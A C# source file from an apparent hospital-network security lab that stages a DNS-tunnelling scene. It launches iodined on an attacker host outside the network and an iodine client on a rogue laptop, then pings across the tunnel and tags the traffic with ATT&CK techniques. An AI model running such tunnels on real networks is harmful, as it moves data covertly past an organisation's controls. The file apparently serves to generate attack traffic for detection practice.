using Wardkeeper.Lab.Attacks.Network;
using Wardkeeper.Lab.Recording;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Outside;

/// <summary>iodine carries IP packets out of the hospital in names that are looked up: the hospital's resolver asks the attacker's name server outside for them.</summary>
internal sealed class DnsTunnel() : Scene("dns-tunnel",
    "A laptop carries data out through the hospital's resolver, in the names that it looks up in an attacker's zone.",
    "一台笔记本电脑把数据编码在域名查询中，经由医院的域名解析服务器传到院外攻击者的域。",
    "T1071.004", "T1572", "T1048")
{
    private const int Port = 53;
    private const string Lower = "abcdefghijklmnopqrstuvwxyz";

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [new("iodine", "iodine"), new("iodined", "iodine"), CardTool.Pinging];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        HostNamespace outside = Cast.Outside(stage.Site);
        Cast.Offering(stage.Site, "dns");
        string zone = $"{stage.Dice.Letters(1, Lower)}.{stage.Dice.Letters(stage.Dice.Between(6, 10), Lower)}.example", kind = stage.Dice.Of(["TXT", "NULL", "CNAME"]), password = stage.Dice.Letters(8, Lower);
        int subnet = stage.Dice.Between(10, 99), pings = stage.Dice.Between(8, 20), size = stage.Dice.Between(200, 600);
        TimeSpan pace = stage.Dice.Time(200, 400);
        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, stage.Dice.Of(Cast.Inside(stage.Site)).Department), cancel);

        stage.Begin();
        await using RunningProgram server = await ProgramRun.ServeAsync(outside, stage.Site.LogOf(outside, "iodined"), "iodined", ["-f", "-c", "-P", password, $"10.99.{subnet}.1/24", zone], [], cancel);
        await Task.Delay(300, cancel);
        string log = stage.Site.LogOf(rogue, "iodine");
        if (File.Exists(log)) File.Delete(log);
        await using RunningProgram client = await ProgramRun.ServeAsync(rogue, log, "iodine",
            ["-f", "-r", "-P", password, "-T", kind, "-m", kind == "CNAME" ? "100" : "300", HospitalNetwork.RouterOf(rogue.Device).ToString(), zone], [], cancel);
        long begin = Environment.TickCount64;
        while (!client.Tail().Contains("Connection setup complete", StringComparison.Ordinal))
        {
            if (client.HasEnded || Environment.TickCount64 - begin > 20_000)
            {
                throw new LabException($"iodine reaches no name server of its own through the resolver of this hospital, which must pass questions on to {outside.Device.Ip}: {client.Tail()} (server: {server.Tail()})");
            }
            await Task.Delay(100, cancel);
        }
        ProgramResult result = await stage.RunAsync(rogue, "ping",
            ["-n", "-c", SceneStage.Text(pings), "-i", pace.TotalSeconds.ToString("0.000", System.Globalization.CultureInfo.InvariantCulture), "-W", "3", "-s", SceneStage.Text(size), $"10.99.{subnet}.1"], cancel);
        int answers = result.Output.Split('\n').Count(line => line.Contains("icmp_seq=", StringComparison.Ordinal) && line.Contains(" time=", StringComparison.Ordinal));
        if (answers < pings / 2) throw new LabException($"only {answers} of {pings} pings came back through the tunnel");
        // The laptop's own questions, and what the resolver asks outside on its behalf.
        return new SceneReport([AllOf(rogue), new SceneTraffic(outside.Device.Ip, null, null, Port)],
            [("attacker", rogue.Device.Ip.ToString()), ("zone", zone), ("record-type", kind), ("pings", SceneStage.Text(pings)), ("ping-bytes", SceneStage.Text(size))]);
    }
}
